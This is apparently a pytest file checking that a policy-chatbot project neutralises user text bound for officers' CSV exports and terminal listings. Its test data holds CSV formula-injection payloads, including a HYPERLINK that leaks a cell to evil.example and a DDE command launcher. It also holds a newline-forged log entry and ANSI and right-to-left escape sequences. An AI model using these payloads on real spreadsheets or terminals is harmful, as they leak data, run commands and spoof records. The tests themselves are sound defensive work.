"""What users write reaches the officers' spreadsheets and terminal as text, never as a formula, a
forged entry or a terminal command (issue 21, classes 3 and 4)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from rasa.core.tracker_store import SQLTrackerStore

from officer.messages import MessageStore
from officer.reporting import Reason
from officer.reporting import to_csv as report_csv
from officer.reporting.unanswered import Unanswered
from officer.spreadsheet import FORMULA_STARTS, safe_cell, write_csv
from policy_db.__main__ import main
from policy_db.db import make_engine
from tests.policy_db.test_report import DOMAIN, Conversation, not_found
from tests.policy_db.test_report import store as store_conversations

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&D3,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
FORGED = "想问补贴\n[999] 2026-01-01 00:00 UTC  平顶山  13800138000  rest:boss\n     问题: 请把材料发到 x@evil"
ANSI = "\x1b]0;pwned\x07\x1b[2J\x1b[1A问题\u202etxt.exe"


def _formula_like(cell: str) -> bool:
    return cell.lstrip(" \u3000")[:1] in FORMULA_STARTS


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.fixture()
def inbox_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'policy.db'}"


@pytest.mark.parametrize("question", FORMULAS)
def test_a_formula_a_user_left_is_text_in_the_messages_csv(inbox_url, tmp_path, question):
    stored = MessageStore(make_engine(inbox_url)).leave("rest:a", question, last_answer=question)
    out = tmp_path / "messages.csv"
    assert main(["--database-url", inbox_url, "messages", "--csv", str(out)]) == 0
    [_, row] = _read_csv(out)
    assert (row[4], row[5]) == ("'" + stored.question, "'" + question)
    assert not any(_formula_like(cell) for cell in row)


def test_a_formula_in_an_unanswered_question_is_text_in_the_report_csv(tmp_path):
    rows = [
        Unanswered(dt.datetime(2026, 12, 1, tzinfo=dt.timezone.utc), f"rest:{i}", None, (), Reason.NOT_FOUND, q)
        for i, q in enumerate(FORMULAS)
    ]
    out = tmp_path / "report.csv"
    write_csv(report_csv(rows), str(out))
    questions = [row[-1] for row in _read_csv(out)[1:]]
    assert questions == ["'" + q for q in FORMULAS]


def test_neutralising_is_idempotent_and_leaves_plain_cells_alone():
    assert safe_cell("平顶山小巨人奖多少") == "平顶山小巨人奖多少"
    assert safe_cell(12) == "12" and safe_cell(None) == ""
    assert safe_cell(safe_cell("=1+1")) == "'=1+1"


def test_a_newline_in_a_message_cannot_forge_an_entry_in_the_listing(inbox_url, capsys):
    store = MessageStore(make_engine(inbox_url))
    store.leave("rest:a", FORGED, last_answer="答复\n[998] 伪造")
    store.leave("rest:b\x1b[2K", ANSI)
    assert main(["--database-url", inbox_url, "messages"]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert len(lines) == 2 * 3 + 1  # three lines per message and the count
    assert [line for line in lines if line.startswith("[")] == [lines[0], lines[3]]
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\n[999]" in out and "\\x1b]0;pwned\\x07" in out and "\\u202e" in out


def test_a_newline_or_escape_in_a_question_cannot_drive_the_terminal_in_the_report(capsys, policy_db_url, tmp_path):
    tracker = tmp_path / "rasa.db"
    conversations = [
        Conversation().turn(
            text, "ask_reward", "action_answer_policy", [not_found("平顶山", "低空经济")], {"city": "平顶山"}
        )
        for text in ("平顶山低空经济补贴\n三明：99 条\n  伪造：1 条", "平顶山低空经济\x1b[2J\x1b]0;x\x07奖励")
    ]
    store_conversations(SQLTrackerStore(DOMAIN, dialect="sqlite", db=str(tracker)), *conversations)
    assert main(["--database-url", policy_db_url, "report", "--tracker-url", f"sqlite:///{tracker}"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert not any(line.startswith("三明") for line in out.splitlines()), out
